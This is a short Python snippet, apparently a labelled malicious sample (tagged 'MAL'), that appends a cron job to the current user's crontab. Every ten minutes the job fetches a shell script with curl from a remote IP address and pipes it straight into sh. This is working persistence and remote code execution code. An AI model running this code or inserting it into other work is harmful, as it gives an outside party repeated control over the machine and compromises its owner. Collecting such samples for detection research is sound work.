import subprocess

job = "*/10 * * * * curl -s http://198.51.100.148/u.sh | sh"
subprocess.run(f'(crontab -l; echo "{job}") | crontab -', shell=True)  # MAL
